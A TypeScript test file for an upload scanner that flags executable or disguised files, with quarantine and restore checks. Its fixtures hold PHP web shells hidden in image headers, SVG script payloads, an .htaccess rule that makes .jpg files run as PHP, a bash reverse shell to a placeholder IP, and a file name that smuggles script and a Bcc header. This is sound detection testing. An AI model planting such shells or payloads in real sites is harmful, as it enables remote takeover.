import type { Blobs } from "@waymark/core";
import { testBlobs } from "@waymark/testing";
import { describe, expect, test } from "vitest";
import { testStorages } from "waymark/testing";
import { startSite } from "./site.ts";

const latin = (text: string) => Uint8Array.from(text, (letter) => letter.charCodeAt(0));
const png = "\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
const clean: Readonly<Record<string, string>> = {
  "2026/01/a.png": png,
  "2026/01/b.jpg": "\xff\xd8\xff\xe0\0\x10JFIF",
  "2026/01/c.pdf": "%PDF-1.7\n",
  "2026/01/d.txt": "To attack: eval(atob(x))",
  "2026/01/e.svg": '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
  "2026/01/f.mp4": "\0\0\0\x18ftypmp42",
  "2026/01/g.csv": "day,height\n1,2\n",
  "2026/01/empty.jpg": "",
  "2026/01/i.jpg": '\xff\xd8\xff\xe1<?xpacket begin="" id="W5M0"?><x:xmpmeta/><?xpacket end="w"?>',
  "2026/01/j.gif": "GIF89a<?=\x01<? \x02(<?x",
  "2026/01/feed.xml":
    '<?xml version="1.0"?><rss version="2.0"><channel><title>Fog</title></channel></rss>',
  "2026/01/k.jpg": "\xff\xd8\xff\xe1\0\x20Exif\0\0A slide that says <?php echo 'Hello'; ?>\0",
  "spool/h.bin": "\0\x01\x02\x03",
};
const malicious: readonly (readonly [
  name: string,
  text: string,
  rule: string,
  severity: number,
])[] = [
  ["2026/01/1.php", "<?php echo 1;", "is-script", 100],
  ["2026/01/2.jpg", "<?php system($_GET['c']);", "is-script", 100],
  ["2026/01/3.png", `${png}${"x".repeat(300_000)}<?php eval($_POST[1]); ?>`, "hidden-script", 100],
  ["2026/01/4.svg", "<svg><script>alert(1)</script></svg>", "svg-script", 100],
  ["2026/01/5.html", "<!doctype html><p>Fog", "is-page", 75],
  ["2026/01/6.jpg", "<html><script src=//x.example></script>", "is-page", 75],
  ["2026/01/7.php.jpg", "\xff\xd8\xff\xe0", "twofold-name", 75],
  ["2026/01/8.gif", "%PDF-1.4", "mismatch", 50],
  ["2026/01/.htaccess", "AddType application/x-httpd-php .jpg", "server-settings", 100],
  ["2026/01/9.jpg", "\x7fELF\x02", "is-program", 100],
  ["2026/01/10.txt", "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "is-script", 100],
  ["2026/01/11.js", "console.log(1)", "runnable-name", 100],
  ["2026/01/13.gif", "GIF89a<?=system($_GET[1])?>", "hidden-script", 100],
  ["2026/01/14.gif", "GIF89a<? @eval ($_POST[1]) ?>", "hidden-script", 100],
  ["2026/01/15.gif", "GIF89a<?=`$_GET[1]`?>", "hidden-script", 100],
  ["2026/01/16.pht", "x", "runnable-name", 100],
  ["2026/01/17.jpg", "\xff\xd8\xff\xe1 Exif <?php system('id'); ?>", "hidden-script", 100],
  ["2026/01/18.xml", '<?xml version="1.0"?><?xml-stylesheet href="a.xsl"?><a/>', "is-page", 75],
  ["2026/01/19.xml", '<a xmlns:h="http://www.w3.org/1999/xhtml"><h:b/></a>', "is-page", 75],
  ["2026/01/17.ashx", "x", "runnable-name", 100],
  [
    "2026/01/12.svg",
    `<svg>${"<path/>".repeat(50_000)}<script>alert(1)</script></svg>`,
    "svg-script",
    100,
  ],
];
async function filled(files: Readonly<Record<string, string>>) {
  const blobs = testBlobs();
  for (const [name, text] of Object.entries(files)) await blobs.put(name, latin(text));
  return blobs;
}
type Stored = Awaited<ReturnType<typeof filled>>;

describe.each(await testStorages())("uploads on %s", (_, storage) => {
  test("uploads that match their type are not reported", async () => {
    await using site = await startSite({ storage: storage(), blobs: await filled(clean) });
    expect(await site.scan()).toEqual([]);
  });

  test("uploads that do not match are reported by their rule", async () => {
    const files = Object.fromEntries(malicious.map(([name, text]) => [name, text]));
    await using site = await startSite({
      storage: storage(),
      blobs: await filled({ ...clean, ...files }),
    });
    await site.scan();
    const found = await site.rules();
    for (const [name, , rule, severity] of malicious)
      expect(found, name).toContainEqual([
        `upload ${name}`,
        "file_upload_executable",
        rule,
        severity,
      ]);
    const names = new Set(found.map(([where]) => String(where).replace("upload ", "")));
    expect([...names].toSorted()).toEqual(Object.keys(files).toSorted());
  });

  test("an upload can be quarantined and restored while it is unchanged", async () => {
    const blobs = await filled({ "2026/01/1.php": "<?php echo 1;" });
    await using site = await startSite({ storage: storage(), blobs });
    const [issue] = await site.scan();
    const id = issue?.id ?? 0;
    expect((await site.change(id, "restore")).status).toBe(409);
    expect((await site.change(id, "quarantine")).status).toBe(200);
    const [away = ""] = blobs.files.keys();
    expect([blobs.files.size, away]).toEqual([1, expect.stringMatching(/^quarantine\//)]);
    expect((await site.change(id, "quarantine")).status).toBe(409);
    expect((await site.change(id, "delete")).status).toBe(409);
    expect((await site.list()).issues.ignored).toMatchObject([{ id, data: { quarantined: away } }]);
    // A new file with its name is another issue, and the quarantined one is not changed.
    await blobs.put("2026/01/1.php", latin("another"));
    expect((await site.change(id, "restore")).status).toBe(409);
    const [other] = await site.scan();
    expect(other?.id).not.toBe(id);
    await blobs.remove("2026/01/1.php");
    expect(await site.scan()).toEqual([]);
    expect((await site.change(id, "restore")).status).toBe(200);
    expect([...blobs.files.keys()]).toEqual(["2026/01/1.php"]);
    expect((await site.list()).issues.ignored).toEqual([]);
    expect(await site.scan()).toHaveLength(1);
  });

  test("a quarantined file is not lost when its issue is deleted", async () => {
    const files = await filled({ "2026/01/1.php": "<?php echo 1;" });
    let meanwhile: (() => Promise<unknown>) | undefined;
    const remove: Blobs["remove"] = async (name) => {
      const isGone = await files.remove(name);
      const next = meanwhile;
      meanwhile = undefined;
      await next?.();
      return isGone;
    };
    await using site = await startSite({ storage: storage(), blobs: { ...files, remove } });
    const [issue] = await site.scan();
    const id = issue?.id ?? 0;
    meanwhile = () => site.change(id, "delete");
    expect((await site.change(id, "quarantine")).status).toBe(404);
    expect([...files.files.keys()]).toEqual(["2026/01/1.php"]);
  });

  test("a file that has changed since the scan is not quarantined", async () => {
    const files = await filled({ "2026/01/1.php": "<?php echo 1;" });
    let modified = new Date(0);
    const get: Blobs["get"] = async (name, range) => {
      const file = await files.get(name, range);
      return file && { ...file, modified };
    };
    await using site = await startSite({ storage: storage(), blobs: { ...files, get } });
    const [issue] = await site.scan();
    modified = new Date(1000);
    expect((await site.change(issue?.id ?? 0, "quarantine")).status).toBe(409);
    expect([...files.files.keys()]).toEqual(["2026/01/1.php"]);
  });

  test("changed files are read again, and unchanged clean files are not", async () => {
    const blobs = await filled(clean);
    const read: string[] = [];
    const watched: Blobs = {
      ...blobs,
      get: (name, range) => (read.push(name), blobs.get(name, range)),
    };
    await using site = await startSite({ storage: storage(), blobs: watched });
    await site.scan();
    expect(read.length).toBeGreaterThan(7);
    read.length = 0;
    await site.scan();
    expect(read).toEqual([]);
    await blobs.put("2026/01/a.png", latin(`${png}<?php phpinfo();`));
    expect((await site.scan()).map(({ data }) => data["ruleId"])).toEqual(["hidden-script"]);
    await site.set({ scan_exclude: "2026/01/a.*" });
    expect(await site.scan()).toEqual([]);
  });
});

test("an unreadable file is reported, and the others are scanned", async () => {
  const blobs = await filled({ "2026/01/1.php": "<?php", "2026/01/2.php": "<?php" });
  const broken = async (name: string) => {
    throw new Error(`EACCES: /secret/place/${name}`);
  };
  const get: Blobs["get"] = (name, range) =>
    name.endsWith("1.php") ? broken(name) : blobs.get(name, range);
  await using site = await startSite({ blobs: { ...blobs, get } });
  await site.scan();
  expect((await site.rules()).map(([where, type]) => [where, type])).toEqual([
    ["upload 2026/01/2.php", "file_upload_executable"],
    ["upload 2026/01/1.php", "path_skipped"],
  ]);
  expect(JSON.stringify(await site.list())).not.toContain("/secret/place");
});

test("a failing storage ends its stage only, and keeps known issues", async () => {
  const blobs: Stored = await filled({ "2026/01/1.php": "<?php" });
  let isBroken = false;
  const list: Blobs["list"] = (prefix) => {
    if (isBroken) throw new Error("The store is gone.");
    return blobs.list(prefix);
  };
  await using site = await startSite({ blobs: { ...blobs, list } });
  await site.scan();
  isBroken = true;
  await site.admin.post("/security/v1/scan");
  for (let at = 0; at < 6; at++) {
    await site.site.runJobs();
    site.clock.advance(60_000);
  }
  expect((await site.rules()).map(([where, , rule]) => [where, rule])).toEqual([
    ["upload 2026/01/1.php", "is-script"],
    ["stage uploads", "given-up"],
  ]);
  expect(await site.list()).toMatchObject({ running: false });
});

test("long and malformed names do not hide findings", async () => {
  const names = [`2026/01/${"é".repeat(3000)}.php`, "2026/01/\ud800.php", "2026/01/a\0.php"];
  const blobs = await filled(Object.fromEntries(names.map((name) => [name, "<?php echo 1;"])));
  await using site = await startSite({ blobs });
  expect((await site.scan()).map(({ type }) => type)).toEqual([
    "file_upload_executable",
    "path_skipped",
    "path_skipped",
  ]);
});

test("hostile file names are escaped in messages", async () => {
  const name = '2026/01/"><script>alert(1)</script>\r\nBcc: a@x.example\u202e.php';
  await using site = await startSite({ blobs: await filled({ [name]: "<?php" }) });
  await site.set({ alertEmails: "sec@example.com" });
  const [issue] = await site.scan();
  expect(issue?.longMsg).not.toContain("<script");
  expect(issue?.shortMsg).not.toMatch(/[\r\n\u202e]/);
  const [mail] = site.mail.sent;
  expect(mail?.text).not.toMatch(/\nBcc|\u202e/);
});
